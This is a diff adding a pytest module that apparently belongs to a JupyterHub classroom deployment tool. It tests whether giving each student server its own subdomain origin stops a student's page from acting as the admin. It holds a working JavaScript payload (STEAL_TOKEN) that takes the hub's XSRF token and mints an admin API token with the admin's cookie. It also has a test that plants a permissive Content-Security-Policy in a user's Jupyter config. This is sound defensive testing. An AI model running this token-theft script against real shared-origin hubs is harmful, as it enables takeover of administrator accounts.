@@ -1,0 +1,164 @@
+"""One origin per server (JupyterHub's ``subdomain_host``), and why a class needs it.
+
+A page a student's server serves runs in the browser of whoever opens it. On a shared
+origin it can read the hub's pages and mint an admin token with the admin's cookie; on an
+origin of its own it cannot. The attack is code run on a page of the student's server,
+in real Chromium, as the admin who opened it. ``*.localhost`` is this machine: Chromium
+resolves it so itself, and this module's Python requests are told the same.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import textwrap
+
+import pytest
+import requests
+from browser import needs_chromium
+from harness import Hub, make_root, run_in_kernel, user_token
+
+# the student's script, run on a page of her server (her JupyterLab, where an extension or
+# a notebook's output runs script): take the hub's XSRF token from one of its pages and
+# create a token of the admin who is looking at the page
+STEAL_TOKEN = """
+async (hub) => {
+  try {
+    const page = await (await fetch(hub + "token", { credentials: "include" })).text();
+    const xsrf = (page.match(/xsrf_token: "([^"]*)"/) || [])[1] || "";
+    const made = await fetch(hub + "api/users/admin/tokens", {
+      method: "POST",
+      credentials: "include",
+      headers: { "Content-Type": "application/json", "X-XSRFToken": xsrf },
+      body: JSON.stringify({ note: "stolen" }),
+    });
+    return `${made.status}`;
+  } catch (error) {
+    return `blocked: ${error.message}`;
+  }
+}
+"""
+
+
+@pytest.fixture(scope="module", autouse=True)
+def localhost_names():
+    """Resolve *.localhost to this machine for this module's requests, as browsers do."""
+    original = socket.getaddrinfo
+
+    def getaddrinfo(host, *args, **kwargs):
+        if isinstance(host, str) and host.endswith(".localhost"):
+            host = "127.0.0.1"
+        return original(host, *args, **kwargs)
+
+    socket.getaddrinfo = getaddrinfo
+    yield
+    socket.getaddrinfo = original
+
+
+def start_hub(name: str, subdomains: bool) -> Hub:
+    instance = Hub(make_root(name), name=name)
+    if subdomains:
+        instance.update_config({"hub": {"subdomain_host": f"http://hub.localhost:{instance.port}"}})
+    instance.start()
+    instance.create_user("alice")
+    instance.spawn("alice")
+    return instance
+
+
+@pytest.fixture(scope="module")
+def shared():
+    """A hub whose servers share its origin (JupyterHub's default)."""
+    instance = start_hub("shared-origin", subdomains=False)
+    yield instance
+    instance.cleanup()
+
+
+@pytest.fixture(scope="module")
+def separate():
+    """A hub with one origin per server: alice's is alice.hub.localhost."""
+    instance = start_hub("subdomains", subdomains=True)
+    yield instance
+    instance.cleanup()
+
+
+def stolen_tokens(hub: Hub) -> list[dict]:
+    tokens = hub.api("GET", "/users/admin/tokens").json()["api_tokens"]
+    return [t for t in tokens if t["note"] == "stolen"]
+
+
+def log_in_as_admin(page, hub_url: str, hub: Hub) -> None:
+    page.goto(f"{hub_url}/hub/login?next=%2Fhub%2Fhome")
+    page.fill("#username_input", "admin")
+    page.fill("#password_input", hub.admin_password)
+    page.click("#login_submit")
+    page.wait_for_url(f"{hub_url}/hub/home")
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="users are isolated only when labfleet is root")
+def test_the_start_warns_when_isolated_servers_share_the_hubs_origin(shared, separate):
+    warning = "servers share the hub's origin"
+    assert any(warning in line for line in shared.start_output)
+    assert not any(warning in line for line in separate.start_output)
+
+
+def test_each_server_answers_on_its_own_host_only(separate):
+    token = user_token(separate, "alice")
+    headers = {"Authorization": f"token {token}"}
+    own = requests.get(
+        f"http://alice.hub.localhost:{separate.port}/user/alice/api/status",
+        headers=headers,
+        timeout=30,
+    )
+    assert own.status_code == 200 and "started" in own.json()
+    # on the hub's host the server is not served: the hub sends the browser to its host
+    on_hub = requests.get(
+        f"http://hub.localhost:{separate.port}/user/alice/api/status", headers=headers, timeout=30
+    )
+    assert [r.status_code for r in on_hub.history] == [302, 302]
+    assert on_hub.url.startswith(f"http://alice.hub.localhost:{separate.port}/user/alice/")
+
+
+@needs_chromium
+def test_a_page_of_a_shared_origin_server_can_act_as_the_admin(shared, page):
+    """The risk, shown: without subdomain_host the student's page mints an admin token."""
+    log_in_as_admin(page, shared.url, shared)
+    page.goto(f"{shared.url}/user/alice/lab", wait_until="domcontentloaded")
+    assert page.evaluate(STEAL_TOKEN, f"{shared.url}/hub/") == "201"
+    assert len(stolen_tokens(shared)) == 1
+
+
+@needs_chromium
+def test_a_page_of_a_server_on_its_own_origin_cannot_act_as_the_admin(separate, page):
+    hub_url = f"http://hub.localhost:{separate.port}"
+    log_in_as_admin(page, hub_url, separate)
+    alice = f"http://alice.hub.localhost:{separate.port}/user/alice/"
+    page.goto(f"{alice}lab", wait_until="domcontentloaded")
+    if "/oauth2/authorize" in page.url:  # the admin agrees to open another user's server
+        page.click("form [type=submit]")
+    page.wait_for_url(f"{alice}lab*", wait_until="domcontentloaded")
+    answer = page.evaluate(STEAL_TOKEN, f"{hub_url}/hub/")
+    assert answer.startswith("blocked") or answer.startswith("4"), answer
+    assert stolen_tokens(separate) == []
+
+
+def test_a_users_own_jupyter_config_is_not_loaded(shared):
+    """disable_user_config: a student's ~/.jupyter cannot change what her server sends."""
+    token = user_token(shared, "alice")
+    config = textwrap.dedent("""
+        import os
+        os.makedirs(os.path.expanduser("~/.jupyter"), exist_ok=True)
+        with open(os.path.expanduser("~/.jupyter/jupyter_server_config.py"), "w") as f:
+            f.write("c.ServerApp.tornado_settings = {'headers': {"
+                    "'Content-Security-Policy': 'default-src *', 'X-Student': 'was here'}}\\n")
+    """)
+    run_in_kernel(shared, "alice", config, token)
+    restarted = shared.api("POST", "/labfleet/users/alice/restart")
+    assert restarted.status_code == 200, restarted.text
+    answer = requests.get(
+        f"{shared.url}/user/alice/api/status",
+        headers={"Authorization": f"token {token}"},
+        timeout=30,
+    )
+    assert answer.status_code == 200
+    assert "X-Student" not in answer.headers
+    assert "default-src *" not in answer.headers["Content-Security-Policy"]
